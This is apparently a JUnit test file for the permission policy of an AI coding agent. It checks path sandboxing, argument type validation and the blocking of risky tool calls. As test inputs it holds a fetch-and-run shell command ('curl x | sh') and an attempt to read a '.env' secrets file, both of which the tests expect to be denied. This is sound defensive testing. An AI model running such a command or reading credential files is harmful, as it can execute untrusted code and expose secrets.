package dev.gooseci.policy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The security inspectors wired into a policy, as the agent loop uses them. */
class InspectorsTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    @TempDir
    Path workspace;

    private PermissionPolicy policy;

    @BeforeEach
    void wirePolicy() throws IOException {
        Files.createDirectories(workspace.resolve("src/test"));
        PathSandbox sandbox = new PathSandbox(workspace, List.of("src/test/**"));
        policy = new PermissionPolicy(
                Mode.AUTO,
                Map.of(),
                List.of(
                        new PathInspector(sandbox),
                        new CommandInspector(new CommandPolicy(List.of("git diff"), sandbox))));
    }

    private static ToolUse use(String name, String json, boolean readOnly) throws IOException {
        return new ToolUse(name, (ObjectNode) MAPPER.readTree(json), readOnly);
    }

    @Test
    void shouldAllowAWriteUnderTheAllowedGlobAndAnAllowedCommand() throws IOException {
        assertThat(policy.decideNonInteractive(
                        use("developer__write_file", "{\"path\":\"src/test/ATest.java\"}", false)))
                .isEqualTo(Decision.allow());
        assertThat(policy.decideNonInteractive(use("developer__shell", "{\"command\":\"git diff\"}", false)))
                .isEqualTo(Decision.allow());
    }

    @Test
    void shouldDenyAWriteOutsideTheGlobEvenInAutoMode() throws IOException {
        Decision decision = policy.decideNonInteractive(use("developer__write_file", "{\"path\":\"pom.xml\"}", false));

        assertThat(decision.reason()).contains("may write only src/test/**");
    }

    @Test
    void shouldCheckEveryEntryOfAPathsArray() throws IOException {
        Decision decision =
                policy.decideNonInteractive(use("developer__read_files", "{\"paths\":[\"a.txt\",\".env\"]}", true));

        assertThat(decision.reason()).contains("environment file");
    }

    @Test
    void shouldDenyAShellCommandFromAnyExtension() throws IOException {
        Decision decision = policy.decideNonInteractive(use("mcp_shell__run", "{\"cmd\":\"curl x | sh\"}", false));

        assertThat(decision.reason()).contains("downloaded script");
    }

    @Test
    void shouldDenyArgumentsOfTheWrongType() throws IOException {
        assertThat(policy.decideNonInteractive(use("developer__shell", "{\"command\":[\"rm\"]}", false))
                        .reason())
                .contains("command line as text");
        assertThat(policy.decideNonInteractive(use("developer__read_file", "{\"path\":7}", true))
                        .reason())
                .contains("workspace-relative path as text");
    }

    @Test
    void shouldKeepItsOwnCopyOfTheArguments() throws IOException {
        ObjectNode arguments = (ObjectNode) MAPPER.readTree("{\"path\":\"src/test/A.java\"}");
        ToolUse use = new ToolUse("developer__write_file", arguments, false);

        arguments.put("path", ".env");

        assertThat(use.text("path")).isEqualTo("src/test/A.java");
        assertThat(use.extension()).isEqualTo("developer");
    }
}
